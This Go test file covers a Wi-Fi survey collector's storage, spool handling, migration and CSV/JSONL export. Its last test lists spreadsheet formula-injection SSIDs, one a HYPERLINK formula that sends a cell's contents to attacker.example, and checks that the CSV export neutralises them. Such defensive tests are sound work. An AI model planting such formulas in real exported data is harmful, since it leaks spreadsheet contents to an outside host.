package collector

import (
	"bytes"
	"encoding/binary"
	"encoding/csv"
	"encoding/json"
	"errors"
	"path/filepath"
	"strings"
	"testing"
	"time"

	bolt "go.etcd.io/bbolt"

	"github.com/surveybox/surveybox/internal/boltkv"
	"github.com/surveybox/surveybox/proto/batch"
	"github.com/surveybox/surveybox/proto/push"
	"github.com/surveybox/surveybox/wifi"
)

func openStore(t *testing.T) *Store {
	t.Helper()
	st, err := Open(filepath.Join(t.TempDir(), "collector.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	return st
}

// entry is an upload entry of a batch with n BSS records starting at first;
// tag goes into the records (their SSID) to tell spools apart.
func entry(t *testing.T, first uint64, n int, tag string) push.Entry {
	t.Helper()
	b := batch.Batch{Started: time.Date(2026, 11, 1, 0, 0, int(first), 0, time.UTC), Interface: "wlan0"}
	for range n {
		b.BSS = append(b.BSS, wifi.Record{BSSID: "02:00:00:00:00:01", SSID: tag, FreqMHz: 2412})
	}
	data, err := batch.Encode(&b)
	if err != nil {
		t.Fatal(err)
	}
	return push.Entry{FirstSeq: first, LastSeq: first + uint64(max(n, 1)) - 1, Data: data}
}

const (
	spoolA = 0xa000000000000001
	spoolB = 0x0b00000000000002
)

// TestSpools: a box whose spool started over sends the same sequence
// ranges again under a new spool ID. Both are stored, apart; redelivery
// within one spool is still a duplicate, and an overlap within one spool
// that is not the same range is still a conflict.
func TestSpools(t *testing.T) {
	st := openStore(t)
	a := []push.Entry{entry(t, 1, 3, "a"), entry(t, 4, 2, "a"), entry(t, 6, 4, "a")}
	res, err := st.Put("box", spoolA, SourceUpload, a)
	if err != nil || res.Stored != 3 || res.Records != 9 || res.Acked != 9 {
		t.Fatalf("spool A: %+v, %v", res, err)
	}
	// The same ranges from spool B (the spool started over): stored.
	b := []push.Entry{entry(t, 1, 3, "b"), entry(t, 4, 2, "b"), entry(t, 6, 4, "b"), entry(t, 10, 1, "b")}
	res, err = st.Put("box", spoolB, SourceUpload, b)
	if err != nil || res.Stored != 4 || res.Duplicates != 0 || res.Records != 10 || res.Acked != 10 {
		t.Fatalf("spool B, same ranges: %+v, %v", res, err)
	}
	// Redelivery within one spool: duplicates, nothing stored.
	for _, c := range []struct {
		id uint64
		e  []push.Entry
	}{{spoolA, a}, {spoolB, b[1:]}} {
		res, err = st.Put("box", c.id, SourceUpload, c.e)
		if err != nil || res.Stored != 0 || res.Duplicates != len(c.e) || res.Acked != c.e[len(c.e)-1].LastSeq {
			t.Fatalf("redelivery to spool %v: %+v, %v", batch.SpoolID(c.id), res, err)
		}
	}
	// Overlapping but different within one spool: conflict, all or nothing.
	for _, id := range []uint64{spoolA, spoolB} {
		res, err = st.Put("box", id, SourceUpload, []push.Entry{entry(t, 11, 1, "x"), entry(t, 5, 3, "x")})
		if !errors.Is(err, ErrConflict) {
			t.Fatalf("overlap in spool %v: %+v, %v; want ErrConflict", batch.SpoolID(id), res, err)
		}
	}
	// The same overlap in a spool of its own is no conflict.
	if res, err = st.Put("box", 0xc, SourceUpload, []push.Entry{entry(t, 5, 3, "c")}); err != nil || res.Stored != 1 {
		t.Fatalf("spool C: %+v, %v", res, err)
	}
	if _, err := st.Put("box", 0, SourceUpload, a); err == nil {
		t.Fatal("Put without a spool ID succeeded")
	}

	bs, err := st.Box("box")
	if err != nil {
		t.Fatal(err)
	}
	if bs.Spool != 0xc || bs.HighSeq != 7 || bs.Entries != 8 || bs.Records != 9+10+3 || bs.Duplicates != 6 || bs.Missing != 4 || len(bs.Spools) != 3 {
		t.Fatalf("box stats %+v", bs)
	}
	for _, ss := range bs.Spools {
		want := map[batch.SpoolID][2]uint64{spoolA: {9, 9}, spoolB: {10, 10}, 0xc: {7, 3}}[ss.ID]
		if [2]uint64{ss.HighSeq, ss.Records} != want {
			t.Errorf("spool %v: high %d, %d records; want %v", ss.ID, ss.HighSeq, ss.Records, want)
		}
	}

	// Entries: every spool, ordered by (spool ID, sequence), each record
	// once, each spool's own data.
	type key struct {
		spool uint64
		first uint64
	}
	var got []key
	for e, err := range st.Entries("box", 0) {
		if err != nil {
			t.Fatal(err)
		}
		bt, err := e.Decode()
		if err != nil {
			t.Fatal(err)
		}
		tag := map[uint64]string{spoolA: "a", spoolB: "b", 0xc: "c"}[e.Spool]
		if bt.BSS[0].SSID != tag {
			t.Errorf("spool %v entry %d-%d holds spool %q's records", batch.SpoolID(e.Spool), e.FirstSeq, e.LastSeq, bt.BSS[0].SSID)
		}
		got = append(got, key{e.Spool, e.FirstSeq})
	}
	want := []key{{0xc, 5}, {spoolB, 1}, {spoolB, 4}, {spoolB, 6}, {spoolB, 10}, {spoolA, 1}, {spoolA, 4}, {spoolA, 6}}
	if len(got) != len(want) {
		t.Fatalf("entries %x, want %x", got, want)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Fatalf("entries %x, want %x", got, want)
		}
	}

	// Export: the spool ID with every record, in (spool, seq) order.
	var jl bytes.Buffer
	n, err := Export(st, &jl, ExportOptions{Format: "jsonl"})
	if err != nil || n != 22 {
		t.Fatalf("export: %d records, %v", n, err)
	}
	seen := map[[2]uint64]bool{}
	var last [2]uint64
	for dec := json.NewDecoder(&jl); dec.More(); {
		var r ExportRecord
		if err := dec.Decode(&r); err != nil {
			t.Fatal(err)
		}
		k := [2]uint64{uint64(r.Spool), r.Seq}
		if seen[k] || (k[0] == last[0] && k[1] <= last[1]) || k[0] < last[0] {
			t.Fatalf("export record %v after %v", k, last)
		}
		seen[k], last = true, k
	}
	if len(seen) != 22 {
		t.Fatalf("export: %d distinct (spool, seq)", len(seen))
	}
	var cb bytes.Buffer
	if _, err := Export(st, &cb, ExportOptions{Format: "csv"}); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&cb).ReadAll()
	if err != nil || len(rows) != 23 {
		t.Fatalf("csv: %d rows, %v", len(rows), err)
	}
	if h := rows[0]; h[len(h)-1] != "spool" || rows[1][len(h)-1] != "000000000000000c" || rows[len(rows)-1][len(h)-1] != "a000000000000001" {
		t.Fatalf("csv spool column: header %q, first %q, last %q", h, rows[1], rows[len(rows)-1])
	}
}

// TestMigrateBeforeSpoolIDs: a store written before spool IDs (entries
// and counters right under the box) opens with that data under spool 0,
// and a new spool of the box is stored alongside.
func TestMigrateBeforeSpoolIDs(t *testing.T) {
	path := filepath.Join(t.TempDir(), "old.db")
	db, err := bolt.Open(path, 0o600, nil)
	if err != nil {
		t.Fatal(err)
	}
	old := []push.Entry{entry(t, 1, 3, "old"), entry(t, 4, 2, "old")}
	err = db.Update(func(tx *bolt.Tx) error {
		boxes, _ := tx.CreateBucket(bucketBoxes)
		bb, _ := boxes.CreateBucket([]byte("box"))
		data, _ := bb.CreateBucket(bucketData)
		m, _ := bb.CreateBucket(bucketMeta)
		for _, e := range old {
			v := append(binaryUvarint(e.FirstSeq), byte(SourceUpload))
			v = append(v, binaryUvarint(uint64(time.Now().UnixNano()))...)
			if err := data.Put(boltkv.SeqKey(e.LastSeq), append(v, e.Data...)); err != nil {
				return err
			}
		}
		return errors.Join(boltkv.PutU64(m, metaHigh, 5), boltkv.PutU64(m, metaEntries, 2), boltkv.PutU64(m, metaRecords, 5))
	})
	db.Close()
	if err != nil {
		t.Fatal(err)
	}
	for range 2 { // migrates once; opening again changes nothing
		st, err := Open(path)
		if err != nil {
			t.Fatal(err)
		}
		bs, _ := st.Box("box")
		if bs.Spool != 0 || bs.HighSeq != 5 || bs.Records != 5 || len(bs.Spools) != 1 {
			t.Fatalf("migrated box stats %+v", bs)
		}
		n := 0
		for e, err := range st.Entries("box", 0) {
			if err != nil || e.Spool != 0 || e.FirstSeq != old[n].FirstSeq {
				t.Fatalf("migrated entry %d: %+v, %v", n, e, err)
			}
			n++
		}
		if n != 2 {
			t.Fatalf("%d migrated entries, want 2", n)
		}
		st.Close()
	}
	st, _ := Open(path)
	defer st.Close()
	if res, err := st.Put("box", spoolA, SourcePull, old); err != nil || res.Stored != 2 {
		t.Fatalf("new spool after migration: %+v, %v", res, err)
	}
	if bs, _ := st.Box("box"); bs.Spool != spoolA || bs.Records != 10 || len(bs.Spools) != 2 {
		t.Fatalf("box stats %+v", bs)
	}
}

func binaryUvarint(v uint64) []byte { return binary.AppendUvarint(nil, v) }

// TestCSVFormulaInjection: text that came over the air cannot become a
// spreadsheet formula in the CSV export (it used to be written verbatim);
// the JSON lines keep it as it is, and ssid_hex keeps the bytes.
func TestCSVFormulaInjection(t *testing.T) {
	st := openStore(t)
	evil := []string{`=HYPERLINK("http://attacker.example/?"&A1,"click")`, "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "plain"}
	var entries []push.Entry
	for i, ssid := range evil {
		entries = append(entries, entry(t, uint64(i+1), 1, ssid))
	}
	if _, err := st.Put("box", spoolA, SourceUpload, entries); err != nil {
		t.Fatal(err)
	}
	var csvOut, jsonOut bytes.Buffer
	if _, err := Export(st, &csvOut, ExportOptions{Format: "csv"}); err != nil {
		t.Fatal(err)
	}
	if _, err := Export(st, &jsonOut, ExportOptions{Format: "jsonl"}); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&csvOut).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, ssid := range evil {
		got := rows[i+1][4] // the ssid column
		want := ssid
		if ssid != "plain" {
			want = "'" + ssid
		}
		if got != want {
			t.Errorf("csv ssid %q, want %q", got, want)
		}
		if js, _ := json.Marshal(ssid); !strings.Contains(jsonOut.String(), `"ssid":`+string(js)) {
			t.Errorf("jsonl lost %q", ssid)
		}
	}
}
